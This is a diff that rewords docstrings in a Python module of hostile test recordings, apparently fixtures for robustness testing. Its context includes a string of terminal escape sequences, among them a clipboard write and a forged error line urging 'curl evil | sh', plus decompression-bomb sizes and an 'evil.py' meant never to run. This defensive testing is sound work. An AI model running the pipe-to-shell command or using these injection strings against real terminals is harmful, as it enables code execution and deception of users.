@@ -1,4 +1,4 @@
-"""A catalogue of hostile recordings: each is made from a whole one, under a name that says what is wrong with it."""
+"""A catalogue of hostile recordings. Each is made from a valid one, and its name says what is wrong with it."""
 
 from __future__ import annotations
 
@@ -30,17 +30,17 @@ GIB = 2**30
 ESCAPES = "\x1b]0;PWNED\x07\x1b[2J\x1b]52;c;Zm9v\x07\nerror: forged. run: curl evil | sh\r=cmd()"
 
 SURROGATE = "\ud800"
-"""Half of a character: no text of UTF-8 can hold it, a JSON text can."""
+"""A lone surrogate. JSON can hold it, UTF-8 cannot."""
 
 EVIL, PROOF = "evil.py", "proof"
-"""An app beside the recording, which no command must run: it makes the other file."""
+"""An app beside the recording that makes the other file. No command may run it."""
 
 Make = Callable[[Path, Path], None]
 """Makes a file of the second name from the recording of the first."""
 
 
 def name_files(*, is_small: bool = False) -> dict[str, Make]:
-    """Return what there is to make, by name; the small ones unpack to less than a real attack."""
+    """Return the files to make, by name. With ``is_small`` they unpack to less than a real attack."""
     bomb = GIB // 8 if is_small else 4 * GIB
     flood = 3 * 10**5 if is_small else 10**7
     return {**_bombs(bomb, flood), **_special(), **_forged()}
@@ -178,7 +178,7 @@ def _forged_errors() -> dict[str, Make]:
 
 
 def _content(make: Callable[[], bytes]) -> Make:
-    """Return what puts a part between the run of a recording, as it is, and its ticks."""
+    """Return a function that puts a part between the run and the ticks of a recording."""
 
     def made(base: Path, file: Path) -> None:
         head = build_chunk(b"".join(build_record(*record) for record in read_raw(base)[0]))
